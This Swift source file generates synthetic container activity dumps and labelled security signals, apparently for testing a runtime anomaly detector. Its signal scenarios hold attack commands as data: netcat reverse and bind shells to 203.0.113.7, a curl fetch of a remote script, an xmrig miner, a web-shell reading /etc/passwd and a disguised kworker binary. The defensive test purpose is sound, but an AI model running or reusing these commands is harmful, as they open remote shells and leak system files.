/// Generates a reproducible fleet of container workloads: activity dumps with a known structure
/// (common core, rare per-instance behaviour, ephemeral names, `/proc/<pid>` paths, runtime roots)
/// and security signals labelled with their ground truth (`SignalKind`). Pure and deterministic:
/// the same configuration always yields identical dumps and identical signal bytes.
public enum FleetGenerator {
    public static func generate(_ config: FleetConfiguration) -> GeneratedFleet {
        var usedNames = Set<String>()  // membership only; never iterated
        let plans = versionPlans(config)
        var dumps: [(dump: ActivityDump, order: Int)] = []
        var dumpCounts = [Int](repeating: 0, count: plans.count)
        for (p, plan) in plans.enumerated() {
            for container in plan.containers {
                var rng = SeededRandom(seed: config.seed, stream: "dumps/\(plan.imageName)/\(plan.imageTag)/\(container.replica)")
                for k in 0..<max(0, config.dumpsPerContainer) {
                    let dump = makeDump(plan: plan, container: container, index: k, config: config, rng: &rng, usedNames: &usedNames)
                    dumps.append((dump, dumps.count))
                    dumpCounts[p] += 1
                }
            }
        }
        dumps.sort { a, b in
            let ea = a.dump.end ?? 0, eb = b.dump.end ?? 0
            return ea != eb ? ea < eb : a.order < b.order
        }
        let dumpsStart = dumps.compactMap(\.dump.start).min() ?? config.startNanoseconds
        let dumpsEnd = dumps.compactMap(\.dump.end).max() ?? config.startNanoseconds

        // Signals: drafted per version and kind, then shuffled into one stream; ids and dates
        // follow the stream order, after the last dump window.
        var drafts: [SignalDraft] = []
        var signalCounts = [Int](repeating: 0, count: plans.count)
        for (p, plan) in plans.enumerated() {
            for kind in SignalKind.allCases {
                var rng = SeededRandom(seed: config.seed, stream: "signals/\(plan.imageName)/\(plan.imageTag)/\(kind.rawValue)")
                let candidates = behaviours(kind, plan.blueprint)
                let events = ["exec", "open", "dns", "bind"].filter { e in candidates.contains { $0.act.eventName == e } }
                guard !events.isEmpty else { continue }
                for i in 0..<max(0, config.signalsPerKind) {
                    let event = events[i % events.count]
                    let behaviour = rng.pick(candidates.filter { $0.act.eventName == event })
                    drafts.append(draft(kind: kind, behaviour: behaviour, plan: plan, signalsAfter: dumpsEnd,
                                        rng: &rng, usedNames: &usedNames))
                    signalCounts[p] += 1
                }
            }
        }
        var orderRNG = SeededRandom(seed: config.seed, stream: "signals/order")
        drafts = orderRNG.shuffle(drafts)
        let firstDate = dumpsEnd / 1_000_000 + 60_000
        var signals: [GeneratedSignal] = []
        signals.reserveCapacity(drafts.count)
        for (n, d) in drafts.enumerated() {
            var writer = d.writer
            writer.id = "s\(config.seed)-sig-" + pad(n + 1, 6)
            writer.date = firstDate + Int64(n) * 100
            signals.append(GeneratedSignal(id: writer.id, kind: d.kind, imageName: writer.imageName, imageTag: writer.imageTag,
                                           containerID: writer.containerID, eventType: writer.event.name, bytes: Array(writer.json().utf8)))
        }

        let summary = FleetSummary(
            seed: config.seed,
            versions: plans.enumerated().map { p, plan in
                FleetSummary.Version(imageKind: plan.blueprint.kind, imageName: plan.imageName, imageTag: plan.imageTag,
                                     containers: plan.containers.map(\.id), rareContainer: plan.containers[plan.rareReplica].id,
                                     dumps: dumpCounts[p], signals: signalCounts[p])
            },
            dumps: dumps.count, signals: signals.count,
            signalsByKind: SignalKind.allCases.map { k in .init(kind: k, count: signals.count { $0.kind == k }) },
            dumpsStart: dumpsStart, dumpsEnd: dumpsEnd,
            signalsFirstDate: signals.isEmpty ? 0 : firstDate, signalsLastDate: signals.isEmpty ? 0 : firstDate + Int64(signals.count - 1) * 100)
        return GeneratedFleet(configuration: config, dumps: dumps.map(\.dump), signals: signals, summary: summary)
    }

    // MARK: - Plan

    struct ContainerPlan {
        var id: String
        var replica: Int
        var basePid: Int64
        var host: String
        var createdAtMs: Int64

        /// The pid of a long-running role (exec keeps the pid of the process it replaced).
        func stablePid(_ blueprint: FleetBlueprint, _ role: FleetRole, copy: Int = 0) -> Int64 {
            let name = role.execFrom ?? role.name
            let index = blueprint.roles.firstIndex { $0.name == name } ?? 0
            return basePid + Int64(index * 8 + copy)
        }
    }

    struct VersionPlan {
        var blueprint: FleetBlueprint
        var imageName: String
        var imageTag: String
        var containers: [ContainerPlan]
        var rareReplica: Int
    }

    static func interval(_ config: FleetConfiguration) -> Int64 {
        max(1_000_000_000, config.spanNanoseconds / Int64(max(1, config.dumpsPerContainer)))
    }

    static func versionPlans(_ config: FleetConfiguration) -> [VersionPlan] {
        var kinds: [FleetImageKind] = []
        for k in config.images where !kinds.contains(k) { kinds.append(k) }
        var usedIDs = Set<String>()
        var plans: [VersionPlan] = []
        let replicas = max(1, config.replicasPerTag)
        for kind in kinds {
            let blueprint = FleetBlueprint.make(kind)
            let imageName = config.imageNamePrefix + blueprint.baseName
            for t in 0..<max(0, config.tagsPerImage) {
                let imageTag = "\(blueprint.tagBase).\(t)" + config.imageTagSuffix
                var rng = SeededRandom(seed: config.seed, stream: "version/\(imageName)/\(imageTag)")
                var containers: [ContainerPlan] = []
                for r in 0..<replicas {
                    var id = rng.hex(64)
                    while !usedIDs.insert(id).inserted { id = rng.hex(64) }
                    let created = config.startNanoseconds + Int64(r) * (interval(config) / Int64(4 * replicas)) - 60_000_000_000
                    containers.append(ContainerPlan(id: id, replica: r, basePid: Int64(2_000 + rng.below(400_000)),
                                                    host: "fleet-node-\(r % 3 + 1)", createdAtMs: created / 1_000_000))
                }
                plans.append(VersionPlan(blueprint: blueprint, imageName: imageName, imageTag: imageTag, containers: containers,
                                         rareReplica: rng.below(replicas)))
            }
        }
        return plans
    }

    // MARK: - Dumps

    static let shim = FleetExe("/usr/bin/containerd-shim-runc-v2", "containerd-shim-runc-v2")
    static let systemd = FleetExe("/usr/lib/systemd/systemd", "/sbin/init", ["--system", "--deserialize", "31"])

    static func makeDump(plan: VersionPlan, container: ContainerPlan, index k: Int, config: FleetConfiguration,
                         rng: inout SeededRandom, usedNames: inout Set<String>) -> ActivityDump {
        let bp = plan.blueprint
        let step = interval(config)
        let replicas = Int64(max(1, plan.containers.count))
        let jitterSeconds = max(1, Int(step / (8 * replicas) / 1_000_000_000))
        let start = config.startNanoseconds + Int64(k) * step + Int64(container.replica) * (step / (4 * replicas))
            + Int64(rng.below(jitterSeconds)) * 1_000_000_000
        let end = start + step / 2
        let isRare = container.replica == plan.rareReplica
        var nextFreshPid = container.basePid + 1_000 + Int64(k) * 64

        func node(_ role: FleetRole, copy: Int) -> ProcessNode {
            let pid: Int64
            if role.freshPid {
                pid = nextFreshPid
                nextFreshPid += 1
            } else {
                pid = container.stablePid(bp, role, copy: copy)
            }
            var files = role.files.map { FileAccess(path: $0) }
            var dns = role.dns.map { DNSRequest(name: $0) }
            if isRare && copy == 0 {
                files += role.rareFiles.map { FileAccess(path: $0) }
                dns += role.rareDNS.map { DNSRequest(name: $0) }
            }
            if role.procStatus { files.append(FileAccess(path: "/proc/\(pid)/status")) }
            if role.ephemeral {
                files.append(FileAccess(path: tmpName(bp, &rng, &usedNames), flags: 194, mode: 0o600))
                files.append(FileAccess(path: bp.stampDir + "/" + stamp(start + Int64(copy) * 1_000_000_000) + ".log", flags: 1089, mode: 0o640))
            }
            var children: [ProcessNode] = []
            for child in bp.roles where (child.parent == role.name && child.execFrom == nil) || child.execFrom == role.name {
                if child.rareOnly && !isRare { continue }
                for c in 0..<max(1, child.copies) {
                    var n = node(child, copy: c)
                    n.isExecChild = child.execFrom == role.name
                    children.append(n)
                }
            }
            return ProcessNode(path: role.exe.path, argv0: role.exe.argv0, args: role.exe.args, comm: role.exe.comm, pid: pid,
                               files: files, dns: dns, binds: role.ports.map { SocketBind(port: $0) }, syscalls: role.syscalls,
                               capabilities: role.capabilities, children: children)
        }

        var roots: [ProcessNode] = []
        for role in bp.roles where role.parent == nil && role.execFrom == nil && (!role.rareOnly || isRare) {
            for c in 0..<max(1, role.copies) { roots.append(node(role, copy: c)) }
        }
        // Some dumps keep the container runtime above the entrypoint (normalisation drops it).
        if (k + container.replica) % 3 == 1 {
            roots = [ProcessNode(path: shim.path, argv0: shim.argv0,
                                 args: ["-namespace", "k8s.io", "-id", container.id, "-address", "/run/containerd/containerd.sock"],
                                 comm: shim.comm, pid: container.basePid - 1, children: roots)]
        }
        return ActivityDump(id: "s\(config.seed)-\(plan.imageName)-\(plan.imageTag)-r\(container.replica)-d" + pad(k, 3),
                            workload: Workload(imageName: plan.imageName, imageTag: plan.imageTag, service: plan.imageName,
                                               containerID: container.id, host: container.host),
                            start: start, end: end, processes: roots)
    }

    /// A fresh temporary name of the blueprint's shape; the random part always holds a digit, so
    /// the miner generalises it.
    static func tmpName(_ bp: FleetBlueprint, _ rng: inout SeededRandom, _ used: inout Set<String>) -> String {
        while true {
            var hex = Array(rng.hex(8))
            if !hex.contains(where: \.isNumber) { hex[rng.below(hex.count)] = Character(String(rng.below(10))) }
            let name = bp.tmpDir + "/" + bp.tmpPrefix + String(hex) + bp.tmpSuffix
            if used.insert(name).inserted { return name }
        }
    }

    /// `2024-01-15-031245` (UTC) for a time in nanoseconds.
    /// A log name stamped with the time of day of `ns` under a fixed date: the wall clock at which
    /// a fleet is generated (and whether its span crosses midnight) must not change the names'
    /// shape, or an evaluation would depend on the hour it runs.
    static func stamp(_ ns: Int64) -> String {
        let rest = ((ns / 1_000_000_000) % 86_400 + 86_400) % 86_400
        return "2024-01-15-" + "\(pad(Int(rest / 3600), 2))\(pad(Int(rest % 3600 / 60), 2))\(pad(Int(rest % 60), 2))"
    }

    static func pad(_ n: Int, _ width: Int) -> String {
        let s = String(n)
        return s.count >= width ? s : String(repeating: "0", count: width - s.count) + s
    }

    // MARK: - Signal scenarios

    enum ChainItem {
        case role(String)
        case exe(FleetExe)
    }

    enum FileSpec {
        case path(String)
        /// `/proc/<the process's pid>/status`.
        case procStatus
        /// A fresh name of the temporary-file pattern.
        case tmp
        /// A fresh name of the time-stamped log pattern.
        case stamp
    }

    enum Act {
        case exec
        case file(FileSpec)
        case dns(String)
        case bind(Int)

        var eventName: String {
            switch self {
            case .exec: "exec"
            case .file: "open"
            case .dns: "dns"
            case .bind: "bind"
            }
        }
    }

    /// A behaviour a signal reports: the workload's processes from its root down to the acting
    /// process, and what that process did.
    struct Behaviour {
        var chain: [ChainItem]
        var act: Act
        /// Shown only by the rare container.
        var rareContainer = false
        /// The signal carries no ancestors at all.
        var noAncestry = false
    }

    struct SignalDraft {
        var kind: SignalKind
        var writer: SignalJSONWriter
    }

    static let newBinaries = [
        FleetExe("/usr/bin/nc", "nc", ["-e", "/bin/sh", "203.0.113.7", "4444"]),
        FleetExe("/tmp/.x/xmrig", "xmrig", ["-o", "pool.example.net:3333", "--donate-level", "0"]),
        FleetExe("/usr/bin/curl", "curl", ["-s", "http://203.0.113.7/x.sh"]),
        FleetExe("/dev/shm/.kworker", "[kworker/0:1]"),
    ]
    static let loader = FleetExe("/dev/shm/.x/loader", "loader")

    /// The behaviours a signal of `kind` may report for an image (see `SignalKind`).
    static func behaviours(_ kind: SignalKind, _ bp: FleetBlueprint) -> [Behaviour] {
        func chain(_ role: String) -> [ChainItem] { bp.physicalChain(of: role).map { .role($0.name) } }
        func activities(_ r: FleetRole, exec: Bool) -> [Act] {
            var acts: [Act] = exec ? [.exec] : []
            acts += r.files.map { .file(.path($0)) }
            acts += r.dns.map { .dns($0) } + r.ports.map { .bind($0) }
            return acts
        }
        /// The server and its workers: where injected commands start.
        let serverSide = [bp.server] + (bp.worker.map { [$0] } ?? [])
        var out: [Behaviour] = []
        switch kind {
        case .core:
            for r in bp.roles where !r.rareOnly {
                let forkedCopy = r.parent.map { bp.role($0).exe.identity == r.exe.identity } ?? false
                var acts = activities(r, exec: !forkedCopy)
                if r.procStatus { acts.append(.file(.procStatus)) }
                if r.ephemeral { acts += [.file(.tmp), .file(.stamp)] }
                out += acts.map { Behaviour(chain: chain(r.name), act: $0) }
            }
        case .rare:
            for r in bp.roles {
                var acts: [Act] = r.rareOnly ? activities(r, exec: true) : []
                acts += r.rareFiles.map { .file(.path($0)) } + r.rareDNS.map { .dns($0) }
                out += acts.map { Behaviour(chain: chain(r.name), act: $0, rareContainer: true) }
            }
        case .newBinary:
            for p in serverSide {
                out += newBinaries.map { Behaviour(chain: chain(p) + [.exe($0)], act: .exec) }
            }
        case .knownBinaryNewParent:
            var shell = bp.role(bp.shell).exe
            // Web shell: the server (or a worker) runs the shell.
            shell.args = ["-c", "id; uname -a; cat /etc/passwd"]
            out += serverSide.map { Behaviour(chain: chain($0) + [.exe(shell)], act: .exec) }
            // GTFOBins escape: a helper that never spawns anything spawns the shell.
            shell.args = ["-i"]
            out.append(Behaviour(chain: chain(bp.helper) + [.exe(shell)], act: .exec))
        case .otherApplet:
            guard let multiCall = bp.multiCallPath else { break }
            let nc = [FleetExe(multiCall, "nc", ["-lp", "4444", "-e", "/bin/sh"]), FleetExe(multiCall, "nc", ["203.0.113.7", "4444", "-e", "sh"])]
            for p in [bp.shell, bp.server] {
                out += nc.map { Behaviour(chain: chain(p) + [.exe($0)], act: .exec) }
            }
        case .knownFileUnknownProcess:
            let cat = bp.multiCallPath.map { FleetExe($0, "cat") } ?? FleetExe("/bin/cat", "cat")
            var thieves: [[ChainItem]] = [chain(bp.helper), chain(bp.shell)]
            if bp.roles.first?.name != bp.shell { thieves.append(chain(bp.roles[0].name)) }
            thieves += serverSide.map { chain($0) + [.exe(cat)] }
            for secret in bp.secrets {
                for thief in thieves {
                    // Only lineages that never opened the file (the thief's own files are known).
                    if case .role(let name) = thief.last!, bp.role(name).files.contains(secret) { continue }
                    out.append(Behaviour(chain: thief, act: .file(.path(secret))))
                }
            }
        case .unknownParentActivity:
            for r in bp.roles where !r.rareOnly && r.parent != nil {
                let acts = activities(r, exec: false)
                guard !acts.isEmpty else { continue }
                let below = Array(chain(r.name).dropFirst())
                // An unknown binary in place of the entrypoint, or a known helper as the parent.
                var prefixes: [[ChainItem]] = [[.exe(loader)]]
                let wrong = r.name == bp.helper ? bp.server : bp.helper
                if !bp.physicalChain(of: r.name).contains(where: { $0.name == wrong }) { prefixes.append(chain(wrong)) }
                for prefix in prefixes {
                    out += acts.map { Behaviour(chain: prefix + below, act: $0) }
                }
            }
        case .outsidePattern:
            for r in bp.roles where r.ephemeral {
                let names = [bp.tmpDir + "/evil.sh", bp.tmpDir + "/kdevtmpfsi", bp.stampDir + "/payload.so",
                             bp.tmpDir + "/" + bp.tmpPrefix + "backdoor" + bp.tmpSuffix]
                out += names.map { Behaviour(chain: chain(r.name), act: .file(.path($0))) }
            }
        case .noAncestry:
            for name in serverSide + [bp.helper] {
                let r = bp.role(name)
                let forkedCopy = r.parent.map { bp.role($0).exe.identity == r.exe.identity } ?? false
                out += activities(r, exec: !forkedCopy).map { Behaviour(chain: [.role(name)], act: $0, noAncestry: true) }
            }
        }
        return out
    }

    static func ruleID(_ act: Act) -> String {
        switch act {
        case .exec: "fleet_process_exec"
        case .file: "fleet_file_open"
        case .dns: "fleet_dns_query"
        case .bind: "fleet_socket_bind"
        }
    }

    static func draft(kind: SignalKind, behaviour: Behaviour, plan: VersionPlan, signalsAfter: Int64,
                      rng: inout SeededRandom, usedNames: inout Set<String>) -> SignalDraft {
        let bp = plan.blueprint
        let container = behaviour.rareContainer ? plan.containers[plan.rareReplica] : rng.pick(plan.containers)
        var processes: [SignalJSONWriter.Process] = behaviour.chain.map { item in
            switch item {
            case .role(let name):
                let role = bp.role(name)
                let pid = role.freshPid ? container.basePid + 20_000 + Int64(rng.below(20_000))
                    : container.stablePid(bp, role, copy: rng.below(max(1, role.copies)))
                return .init(exe: role.exe, pid: pid, containerID: container.id)
            case .exe(let exe):
                return .init(exe: exe, pid: container.basePid + 40_000 + Int64(rng.below(20_000)), containerID: container.id)
            }
        }
        let process = processes.removeLast()
        var ancestors: [SignalJSONWriter.Process]?
        if !behaviour.noAncestry {
            ancestors = processes.reversed() + [.init(exe: shim, pid: container.basePid - 1, containerID: nil),
                                                .init(exe: systemd, pid: 1, containerID: nil)]
        }
        let event: SignalJSONWriter.Event
        switch behaviour.act {
        case .exec: event = .exec
        case .dns(let name): event = .dns(name: name, type: "A")
        case .bind(let port): event = .bind(ip: "0.0.0.0", port: port)
        case .file(.path(let path)): event = .open(path: path)
        case .file(.procStatus): event = .open(path: "/proc/\(process.pid)/status")
        case .file(.tmp): event = .open(path: tmpName(bp, &rng, &usedNames))
        case .file(.stamp): event = .open(path: bp.stampDir + "/" + stamp(signalsAfter + Int64(rng.below(86_400)) * 1_000_000_000) + ".log")
        }
        let writer = SignalJSONWriter(id: "", ruleID: ruleID(behaviour.act), event: event, date: 0, process: process, ancestors: ancestors,
                                      containerID: container.id, containerCreatedAt: container.createdAtMs, imageName: plan.imageName,
                                      imageTag: plan.imageTag)
        return SignalDraft(kind: kind, writer: writer)
    }
}
